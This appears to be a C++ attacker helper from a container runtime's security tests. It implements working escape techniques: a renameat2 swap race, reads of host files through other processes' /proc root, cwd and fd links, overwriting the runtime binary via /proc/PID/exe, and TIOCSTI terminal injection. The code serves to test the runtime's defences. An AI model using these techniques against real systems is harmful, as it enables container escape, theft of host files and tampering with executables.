// SPDX-License-Identifier: Apache-2.0
// What the attackers of tests/attacks execute, one attack per verb.
//   intruder swap A B              exchange two names for a moment, for ever, at random distances
//   intruder read-through MARK     look for a way to the host's file MARK through the processes
//   that
//                                  appear in /proc: "stolen: PATH" for each that is found
//   intruder overwrite DEV:INODE   open the program of each process that appears, and write to it
//                                  once it no longer runs; only to that file
//   intruder inject                push a byte into standard input (TIOCSTI), and ask for /dev/tty
// The verbs that look print "looking" first and end when standard input is closed.
#include <dirent.h>
#include <fcntl.h>
#include <poll.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#include <cctype>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <map>
#include <set>
#include <string>
#include <vector>

namespace {

constexpr unsigned kExchange = 2;  // RENAME_EXCHANGE
constexpr const char* kUp = "/../../../../../../../../../../../..";

std::vector<std::string> entries(const std::string& directory) {
  std::vector<std::string> names;
  DIR* stream = ::opendir(directory.c_str());
  if (stream == nullptr) return names;
  while (const dirent* entry = ::readdir(stream)) {
    if (entry->d_name[0] != '.') names.emplace_back(entry->d_name);
  }
  ::closedir(stream);
  return names;
}

/// The processes that were not there when we began.
class Newcomers {
 public:
  Newcomers() : known_(pids()) {}
  std::set<std::string> look() const {
    std::set<std::string> found;
    for (const auto& pid : pids()) {
      if (known_.count(pid) == 0) found.insert(pid);
    }
    return found;
  }

 private:
  static std::set<std::string> pids() {
    std::set<std::string> found;
    for (const auto& name : entries("/proc")) {
      if (std::isdigit(static_cast<unsigned char>(name[0])) != 0) found.insert(name);
    }
    return found;
  }
  std::set<std::string> known_;
};

bool told_to_end() {
  pollfd input{STDIN_FILENO, POLLIN, 0};
  char byte = 0;
  return ::poll(&input, 1, 0) == 1 && ::read(STDIN_FILENO, &byte, 1) <= 0;
}

void say(const std::string& line) {
  std::puts(line.c_str());
  std::fflush(stdout);
}

void wait_up_to(std::chrono::microseconds longest) {
  using std::chrono::steady_clock;
  auto end = steady_clock::now() + std::chrono::microseconds(std::rand() % longest.count());
  while (steady_clock::now() < end) {
  }
}

// Mostly as the runtime expects it, or it would refuse nearly always and never be in danger.
int swap(const char* a, const char* b) {
  using std::chrono::microseconds;
  while (true) {
    bool swapped = ::syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, kExchange) == 0;
    wait_up_to(microseconds(20 << std::rand() % 4));
    if (swapped) ::syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, kExchange);
    wait_up_to(microseconds(20 << std::rand() % 9));
  }
}

bool can_read(const std::string& path) {
  int fd = ::open(path.c_str(), O_RDONLY | O_NONBLOCK | O_CLOEXEC);
  if (fd >= 0) ::close(fd);
  return fd >= 0;
}

int read_through(const std::string& mark) {
  Newcomers newcomers;
  std::set<std::string> seen;
  say("looking");
  while (!told_to_end()) {
    for (const auto& pid : newcomers.look()) {
      std::string base = "/proc/" + pid;
      if (seen.insert(pid).second) say("seen " + pid);
      if (can_read(base + "/root" + mark)) say("stolen: root");
      if (can_read(base + "/cwd" + kUp + mark)) say("stolen: cwd");
      for (const auto& number : entries(base + "/fd")) {
        if (can_read(base + "/fd/" + number + kUp + mark)) say("stolen: fd");
      }
    }
  }
  return 0;
}

int overwrite(const std::string& wanted) {
  Newcomers newcomers;
  std::map<std::string, int> held;
  std::chrono::steady_clock::time_point next;
  say("looking");
  while (!told_to_end()) {
    for (const auto& pid : newcomers.look()) {
      if (held.count(pid) != 0) continue;
      int fd = ::open(("/proc/" + pid + "/exe").c_str(), O_RDONLY | O_CLOEXEC);
      if (fd < 0) continue;
      struct stat info {};
      ::fstat(fd, &info);
      std::string file = std::to_string(major(info.st_dev)) + "," +
                         std::to_string(minor(info.st_dev)) + ":" + std::to_string(info.st_ino);
      if (file != wanted) {
        ::close(fd);
        continue;
      }
      say("holding " + pid);
      held[pid] = fd;
    }
    // Not all the time: an attempt that fails still keeps the file from being executed meanwhile.
    if (std::chrono::steady_clock::now() < next) continue;
    next = std::chrono::steady_clock::now() + std::chrono::milliseconds(1);
    for (const auto& [pid, fd] : held) {
      int again = ::open(("/proc/self/fd/" + std::to_string(fd)).c_str(), O_WRONLY | O_CLOEXEC);
      if (again < 0) continue;
      if (::pwrite(again, "pwned", 5, 0) == 5) say("overwritten");
      ::close(again);
    }
  }
  return 0;
}

int inject() {
  char byte = 'x';
  if (::ioctl(STDIN_FILENO, TIOCSTI, &byte) == 0) say("injected");
  int terminal = ::open("/dev/tty", O_RDWR | O_CLOEXEC);
  if (terminal >= 0) say("has a terminal");
  say("tried");
  return 0;
}

}  // namespace

int main(int count, char** words) {
  std::string verb = count > 1 ? words[1] : "";
  if (verb == "swap" && count == 4) return swap(words[2], words[3]);
  if (verb == "read-through" && count == 3) return read_through(words[2]);
  if (verb == "overwrite" && count == 3) return overwrite(words[2]);
  if (verb == "inject" && count == 2) return inject();
  std::fputs("usage: intruder swap A B | read-through MARK | overwrite DEV:INODE | inject\n",
             stderr);
  return 2;
}
